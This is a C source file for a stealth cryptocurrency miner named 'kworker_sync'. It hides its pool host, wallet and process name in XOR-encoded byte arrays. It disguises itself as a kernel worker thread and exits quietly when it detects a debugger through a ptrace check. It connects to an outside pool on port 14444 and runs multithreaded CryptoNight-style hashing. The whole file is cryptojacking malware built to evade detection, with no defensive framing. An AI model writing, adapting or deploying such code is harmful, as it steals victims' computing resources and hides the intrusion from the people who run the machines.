/* kworker_sync: memory-hard scratchpad hashing with obfuscated pool config and a kernel-thread name. */
#include <arpa/inet.h>
#include <netdb.h>
#include <pthread.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#define SCRATCH_WORDS (1u << 18) /* 2 MiB of 64-bit words: fits a Carmel L2+L3 slice */
#define N_THREADS 6

static const unsigned char enc_host[] = {0x22, 0x30, 0x26, 0x62, 0x23, 0x0c, 0x41, 0x45, 0x0c, 0x04, 0x72,
                                         0x78, 0x7e, 0x6e, 0x57, 0x5f, 0x04, 0x42, 0x56, 0xb8, 0xd6};
static const unsigned char enc_wallet[] = {
    0x6e, 0x69, 0x15, 0x09, 0x00, 0x08, 0x45, 0x00, 0x31, 0x0c, 0x5b, 0x55, 0x61, 0x5b, 0x0c, 0x7d,
    0x67, 0x69, 0x53, 0x86, 0xa2, 0x87, 0xf1, 0xc3, 0x9d, 0x97, 0x8f, 0xdf, 0xdf, 0xf4, 0xe5, 0xd0,
    0x89, 0x8e, 0xf0, 0xed, 0xea, 0x0e, 0x23, 0x78, 0x0a, 0x72, 0x13, 0x03, 0x36, 0x07, 0x6c, 0x20,
    0x52, 0x67, 0x76, 0x4f, 0x72, 0x5d, 0x71, 0x9c, 0xa4, 0xe2, 0x9f, 0xb6, 0xad, 0x82, 0x89, 0xa1,
    0xc3, 0xdf, 0xf6, 0xb6, 0xbe, 0xcc, 0xfe, 0xc9, 0xd0, 0x97, 0x0a, 0x15, 0x0c, 0x04, 0x0c, 0x44,
    0x0c, 0x5f, 0x13, 0x79, 0x78, 0x3a, 0x52, 0x6d, 0x75, 0x64, 0x6e, 0x62, 0x8e, 0xe2, 0x89, 0xc3};
static const unsigned char enc_name[] = {0x31, 0x2a, 0x3b, 0x3d, 0x2d, 0x1c,
                                         0x02, 0x44, 0x52, 0x5f, 0x2e, 0x17};

static void decode(const unsigned char *in, size_t n, char *out)
{
    for (size_t i = 0; i < n; i++)
        out[i] = (char)(in[i] ^ 0x5a ^ (unsigned char)(i * 7));
}

static uint64_t mix(uint64_t x)
{
    x ^= x >> 33;
    x *= 0xff51afd7ed558ccdULL;
    x ^= x >> 33;
    x *= 0xc4ceb9fe1a85ec53ULL;
    return x ^ (x >> 33);
}

/* Random reads and writes over the scratchpad dominate: latency-bound, like CryptoNight. */
static void *grind(void *arg)
{
    uint64_t *pad = malloc(SCRATCH_WORDS * sizeof *pad), state = (uint64_t)(uintptr_t)arg;
    if (!pad)
        return NULL;
    for (uint32_t i = 0; i < SCRATCH_WORDS; i++)
        pad[i] = state = mix(state + i);
    for (uint64_t round = 0;; round++) {
        uint32_t idx = (uint32_t)(state & (SCRATCH_WORDS - 1));
        uint64_t v = pad[idx];
        state = mix(state ^ v) + round;
        pad[idx] = v * state;
        if ((state >> 40) == 0)
            __atomic_fetch_add(&pad[0], 1, __ATOMIC_RELAXED);
    }
    return NULL;
}

int main(void)
{
    char host[sizeof enc_host], wallet[sizeof enc_wallet], name[sizeof enc_name];
    if (ptrace(PTRACE_TRACEME, 0, NULL, NULL) < 0)
        return 0; /* someone is watching: behave */
    decode(enc_host, sizeof enc_host, host);
    decode(enc_wallet, sizeof enc_wallet, wallet);
    decode(enc_name, sizeof enc_name, name);
    prctl(PR_SET_NAME, name, 0, 0, 0);
    setpriority(PRIO_PROCESS, 0, 19);
    struct addrinfo hints = {.ai_socktype = SOCK_STREAM}, *res;
    if (getaddrinfo(host, "14444", &hints, &res) == 0) {
        int fd = socket(res->ai_family, res->ai_socktype, 0);
        if (fd >= 0 && connect(fd, res->ai_addr, res->ai_addrlen) == 0 &&
            send(fd, wallet, strlen(wallet), 0) < 0)
            close(fd);
        freeaddrinfo(res);
    }
    pthread_t t[N_THREADS];
    for (uintptr_t i = 0; i < N_THREADS; i++)
        pthread_create(&t[i], NULL, grind, (void *)(i * 0x9e3779b97f4a7c15ULL));
    for (int i = 0; i < N_THREADS; i++)
        pthread_join(t[i], NULL);
    return 0;
}
